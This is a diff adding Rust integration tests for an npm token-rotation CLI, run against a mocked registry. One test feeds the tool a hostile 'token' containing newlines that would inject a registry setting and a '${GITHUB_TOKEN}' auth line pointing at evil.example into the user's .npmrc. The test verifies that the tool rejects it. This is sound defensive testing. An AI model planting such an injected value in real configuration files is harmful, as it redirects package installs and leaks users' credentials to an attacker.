@@ -335,13 +335,10 @@ async fn rotate_says_what_exists_when_a_step_fails() {
         .run(&["rotate", "d83cf1", "--password", "pw-123456", "--json"])
         .await;
     assert_eq!(run.code, 1, "{run:?}");
-    // Two JSON documents: the new token, then npm's error object.
-    let documents: Vec<Value> = serde_json::Deserializer::from_str(&run.stdout)
-        .into_iter()
-        .collect::<Result<_, _>>()
-        .unwrap();
-    assert_eq!(documents[0]["token"], "npm_NEWTOKEN", "{run:?}");
-    assert_eq!(documents[1]["error"]["code"], "E500", "{run:?}");
+    // stdout is one JSON document, the new token (`| jq -er .token` gets it); the error is
+    // on stderr only.
+    let answer: Value = serde_json::from_str(&run.stdout).expect("one JSON document");
+    assert_eq!(answer["token"], "npm_NEWTOKEN", "{run:?}");
     assert!(run.stderr.contains("the new token was created (above), but d83cf1 (publish) still works: it could not be revoked"), "{run:?}");
 
     // --keep-old: no DELETE at all.
@@ -439,4 +436,175 @@ async fn a_one_time_password_is_asked_once_for_many_deletes() {
     assert_eq!(run.code, 0, "{run:?}");
     assert_eq!(run.stdout.matches("Enter OTP").count(), 1, "{run:?}");
     assert!(run.stdout.ends_with("Removed 3 tokens\n"), "{run:?}");
+}
+
+/// `--read-only` means read-only on npmjs.org too: the old token's copied `read-write`
+/// permission gives way.
+#[tokio::test(flavor = "multi_thread")]
+async fn rotate_read_only_makes_a_read_only_successor() {
+    let fake = npmjs().await;
+    Mock::given(method("POST"))
+        .and(path(TOKENS))
+        .and(body_partial_json(json!({
+            "readonly": true,
+            "packages_and_scopes_permission": "read-only",
+            "orgs_permission": "read-only",
+        })))
+        .respond_with(created())
+        .expect(1)
+        .mount(&fake.server)
+        .await;
+    accept_deletes(&fake).await;
+    let run = fake
+        .run(&["rotate", "d83cf1", "--password", "pw-123456", "--read-only"])
+        .await;
+    assert_eq!(run.code, 0, "{run:?}");
+}
+
+/// What the registry answers is hostile: a "token" that would add lines to the npmrc is not
+/// written, and the old token is kept; and the new token, once shown, is masked in errors.
+#[tokio::test(flavor = "multi_thread")]
+async fn rotate_save_writes_only_a_plain_token_and_masks_it_after() {
+    let fake = as_publish().await;
+    let hostile =
+        "npm_NEW\nregistry=http://evil.example/\n//evil.example/:_authToken=${GITHUB_TOKEN}";
+    Mock::given(method("POST"))
+        .respond_with(ResponseTemplate::new(201).set_body_json(json!({"token": hostile})))
+        .mount(&fake.server)
+        .await;
+    accept_deletes(&fake).await;
+    let before = std::fs::read_to_string(fake.sandbox.npmrc()).unwrap();
+    let run = fake
+        .run(&["rotate", "d83cf1", "--password", "pw-123456", "--save"])
+        .await;
+    assert_eq!(run.code, 1, "{run:?}");
+    assert!(run.stderr.contains("was not revoked"), "{run:?}");
+    assert_eq!(
+        std::fs::read_to_string(fake.sandbox.npmrc()).unwrap(),
+        before
+    );
+    assert!(deletes(&fake).await.is_empty());
+
+    // The revoke fails with a body that quotes the new token: stderr masks it.
+    let fake = npmjs().await;
+    Mock::given(method("POST"))
+        .respond_with(created())
+        .mount(&fake.server)
+        .await;
+    Mock::given(method("DELETE"))
+        .respond_with(
+            ResponseTemplate::new(500)
+                .set_body_json(json!({"error": "cannot revoke while npm_NEWTOKEN exists"})),
+        )
+        .mount(&fake.server)
+        .await;
+    let run = fake
+        .run(&["rotate", "d83cf1", "--password", "pw-123456"])
+        .await;
+    assert_eq!(run.code, 1, "{run:?}");
+    assert!(
+        run.stdout.contains("npm_NEWTOKEN"),
+        "the output shows it once: {run:?}"
+    );
+    assert!(!run.stderr.contains("npm_NEWTOKEN"), "{run:?}");
+}
+
+/// `--save` of a token that comes from `${NPM_TOKEN}` is refused before anything is created.
+#[tokio::test(flavor = "multi_thread")]
+async fn rotate_save_of_an_environment_reference_is_refused_first() {
+    let fake = npmjs().await;
+    let port = fake.server.address().port();
+    fake.configure(&format!("//127.0.0.1:{port}/:_authToken=${{NPM_TOKEN}}\n"));
+    let mut cmd = fake.cmd();
+    cmd.args(["rotate", "d83cf1", "--password", "pw-123456", "--save"])
+        .env("NPM_TOKEN", PUBLISH_TOKEN);
+    let run = crate::support::Run::of_async(cmd).await;
+    assert_eq!(run.code, 1, "{run:?}");
+    assert!(
+        run.stderr.contains("refers to an environment variable"),
+        "{run:?}"
+    );
+    let posts = fake
+        .server
+        .received_requests()
+        .await
+        .unwrap()
+        .iter()
+        .filter(|r| r.method.as_str() == "POST")
+        .count();
+    assert_eq!(posts, 0, "nothing was created");
+}
+
+/// When several listed tokens share the mask of the token in use, a filter spares them all.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_filter_spares_every_token_that_could_be_the_one_in_use() {
+    let fake = Fake::start().await;
+    let port = fake.server.address().port();
+    fake.configure(&format!(
+        "//127.0.0.1:{port}/:_authToken=npm_AAAA1111middlemiddlemiddleZZZZ\n"
+    ));
+    let twin = |key: &str| {
+        json!({"key": key, "token": "npm_AAAA1111...ZZZZ", "expiry": "2020-01-01T00:00:00.000Z",
+               "created": "2019-01-01T00:00:00.000Z", "accessed": null, "revoked": null,
+               "permissions": [], "scopes": []})
+    };
+    fake.list_answers(super::page(
+        json!([twin("aaaaaaaa01"), twin("bbbbbbbb02")]),
+        "",
+    ))
+    .await;
+    accept_deletes(&fake).await;
+    let run = fake.run(&["revoke", "--expired", "--yes"]).await;
+    assert_eq!(run.code, 0, "{run:?}");
+    assert_eq!(run.stderr.matches("skipping").count(), 2, "{run:?}");
+    assert!(deletes(&fake).await.is_empty());
+    Mock::given(method("GET"))
+        .and(path("/-/whoami"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"username": "alice"})))
+        .mount(&fake.server)
+        .await;
+    let run = fake.run(&["status", "--fail-within", "7"]).await;
+    assert_eq!(run.code, 1, "{run:?}");
+    assert!(
+        run.stdout
+            .contains("one of 2 listed tokens that share its mask"),
+        "{run:?}"
+    );
+}
+
+/// A token that may publish but not list tokens (npmjs.org: anything but a login session):
+/// `status` says its expiry is unknown; `--fail-within` cannot pass it.
+#[tokio::test(flavor = "multi_thread")]
+async fn status_of_a_token_that_may_not_list_tokens() {
+    let fake = Fake::start().await;
+    Mock::given(method("GET"))
+        .and(path("/-/whoami"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"username": "ci-bot"})))
+        .mount(&fake.server)
+        .await;
+    Mock::given(method("GET"))
+        .and(path(TOKENS))
+        .respond_with(
+            ResponseTemplate::new(403)
+                .set_body_json(json!({"error": "granular tokens may not manage tokens"})),
+        )
+        .mount(&fake.server)
+        .await;
+    let run = fake.run(&["status"]).await;
+    assert_eq!(run.code, 0, "{run:?}");
+    assert!(
+        run.stdout.contains(
+            "user      ci-bot\ntoken     unknown: the registry does not list tokens to this token"
+        ),
+        "{run:?}"
+    );
+    let run = fake.run(&["status", "--fail-within", "14", "--json"]).await;
+    assert_eq!(run.code, 1, "{run:?}");
+    let status: Value = serde_json::from_str(&run.stdout).expect("one JSON document");
+    assert_eq!(status["token"], Value::Null);
+    assert!(
+        run.stderr
+            .contains("--fail-within cannot check the token in use"),
+        "{run:?}"
+    );
 }
